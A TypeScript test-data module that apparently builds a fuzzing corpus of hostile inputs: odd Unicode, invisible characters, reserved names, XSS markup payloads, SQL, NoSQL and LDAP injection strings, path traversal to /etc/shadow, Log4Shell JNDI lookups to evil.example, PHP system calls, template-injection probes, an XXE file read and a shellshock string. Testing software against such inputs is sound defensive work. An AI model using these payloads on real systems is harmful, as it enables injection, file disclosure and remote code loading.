import { naughtyTexts, trap } from './naughty.ts';

const run = `${trap}()`;
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at));
const each = (words: string, ...ways: ((word: string) => string)[]) =>
  words.split(' ').flatMap((word) => [word, ...ways.map((way) => way(word))]);

const upper = (word: string) => word.toUpperCase();
const title = (word: string) => word.charAt(0).toUpperCase() + word.slice(1);

/** Reserved words of languages, shells, file systems and databases. */
const reserved = [
  ...each('null nil none undefined true false nan inf infinity void this self new delete var function', upper, title),
  ...each('con prn aux nul com1 lpt1 clock$ desktop.ini thumbs.db .htaccess .env .git web.config', upper),
  ...each('admin root system select drop union insert update exec script style eval default super'),
];

const numbers = each(
  '1 1.00 $1.00 1/2 1E2 1E02 1E+02 -1 -1.00 1/0 0/0 -2147483648/-1 0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 --1 -. -, 1#INF 1#QNAN 0x0 0xffffffff 0xabad1dea 123456789012345678901234567890123456789 1,000.00 1.000,00 01000 08 09 2.2250738585072011e-308 0b1010 0o17 １２３ ١٢٣ ¹²³ ½ Ⅷ ٣.١٤',
);

/** Samples of each Unicode category, and base characters with combining marks. */
const blocks = [
  ...range(0xa1, 0xbf),
  ...[
    0x370, 0x400, 0x530, 0x590, 0x5d0, 0x620, 0x700, 0x780, 0x900, 0x980, 0xa05, 0xb05, 0xc05, 0xd05, 0xe01, 0xf00,
    0x1000, 0x10a0,
  ].map((start) => range(start, start + 7).join('')),
  ...[
    0x1100, 0x1200, 0x13a0, 0x1780, 0x1820, 0x2100, 0x2190, 0x2200, 0x2300, 0x2460, 0x2500, 0x2600, 0x2700, 0x2800,
    0x3041, 0xac00, 0xf900,
  ].map((start) => range(start, start + 7).join('')),
  ...[
    0x10330, 0x10a00, 0x12000, 0x13000, 0x1d400, 0x1e900, 0x1f300, 0x1f600, 0x20000, 0x2f800, 0xe000, 0xf0000, 0x10fff0,
  ].map((start) => range(start, start + 7).join('')),
  ...[0x300, 0x307, 0x327, 0x338, 0x483, 0x20dd, 0x20e3, 0xfe20].map(
    (mark) => `e${String.fromCodePoint(mark).repeat(9)}x`,
  ),
];

/** Invisible characters within a name, before it, and alone. */
const hidden = [
  ...range(0x00, 0x1f),
  ...range(0x80, 0x9f),
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202f),
  ...range(0x2060, 0x206f),
  ...range(0xfe00, 0xfe0f),
  ...range(0xfff9, 0xfffd),
  ...[
    0xad, 0x34f, 0x61c, 0x115f, 0x17b4, 0x180e, 0x3164, 0xffa0, 0xfeff, 0xd800, 0xdfff, 0xfffe, 0x1d173, 0xe0001,
    0xe0041, 0xe0100,
  ].map((code) => String.fromCodePoint(code)),
].flatMap((sign) => [`Shop${sign}ify`]);

const blanks = [0x20, 0xa0, 0x1680, 0x2000, 0x2003, 0x2009, 0x202f, 0x205f, 0x3000].map(
  (code) => `a${String.fromCodePoint(code).repeat(40)}b`,
);

const handlers =
  'abort animationend beforeinput blur click error focus input keydown load message pointerenter resize scroll submit toggle transitionend unload wheel';
const tags =
  'a audio b body button details div dialog embed form frame iframe img input isindex link math meta object option p picture script select slot style svg table template textarea title video xmp';

const markup = [
  ...handlers.split(' ').map((event) => `<img src=x on${event}=${run}>`),
  ...handlers.split(' ').map((event) => `" on${event}="${run}`),
  ...tags.split(' ').flatMap((tag) => [`<${tag} onload=${run}>`, `</${tag}>`, `<${tag}`]),
  ...range(0x09, 0x0d).map((sign) => `<img${sign}src=x${sign}onerror=${run}>`),
  '<',
  '>',
  '&',
  '"',
  "'",
  '`',
  '=',
  '/',
  '\\',
  ';',
  '&lt;',
  '&#60;',
  '&#x3c',
  '&quot;',
  '&apos;',
  '&NewLine;',
  '&Tab;',
  '&amp;lt;',
  `<a href="\x0bjavascript:${run}">x</a>`,
  `<img src="x\`${run}\`">`,
  `<svg><script xlink:href=data:,${run}></script>`,
  `<x style="background:url('javascript:${run}')">`,
  `<x style="width:expression(${run})">`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<math href="javascript:${run}">x</math>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  '{"$$typeof":"react.element","type":"script"}',
];

/** Texts with a meaning for servers, shells, databases and text formats. */
const servers = [
  ...each(
    '%s %d %x %n %@ %p %%d %1$s %*.*s {0} {} {{}} ${} #{} $HOME %PATH% $PATH !! ~ * ? [a-z] `ls` $(ls) |ls ;ls &ls &&ls >x <x 2>&1',
  ),
  '1;DROP TABLE users',
  "1'; DROP TABLE users-- 1",
  "' OR 1=1 -- 1",
  "' UNION SELECT NULL,NULL--",
  '"; DROP TABLE users; --',
  '\\x00\\x1a',
  '$ne',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  '../../../../../../etc/shadow%00',
  '..\\..\\boot.ini',
  'file:///etc/passwd',
  'jndi:ldap://evil.example/a',
  '${jndi:ldap://evil.example/a}',
  '<?php system("id"); ?>',
  '<% Response.Write(7*7) %>',
  '[[${7*7}]]',
  "{{''.__class__.__mro__}}",
  '@{7*7}',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  'System("ls -al /")',
  'eval("puts \'x\'")',
  'Kernel.exit(1)',
  '() { :;}; echo x',
  'HTTP/1.1 200 OK\r\n\r\n<html>',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  'a\b\b\bb',
  'If you are reading this you are in a coma',
  'Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗',
  'జ్ఞ‌ా',
  '🏳0🌈️',
  '﷽﷽﷽﷽﷽﷽',
  'iİIıiİ',
  'ſßẞ',
  'ǅǆǄ',
  'ﬃﬄﬅ',
  'Ω Ω Ω',
  'K K',
];

/** Every unique text of this folder, handwritten and generated. */
export const hostileStrings: readonly string[] = [
  ...new Set([...naughtyTexts, ...reserved, ...numbers, ...blocks, ...hidden, ...blanks, ...markup, ...servers]),
];
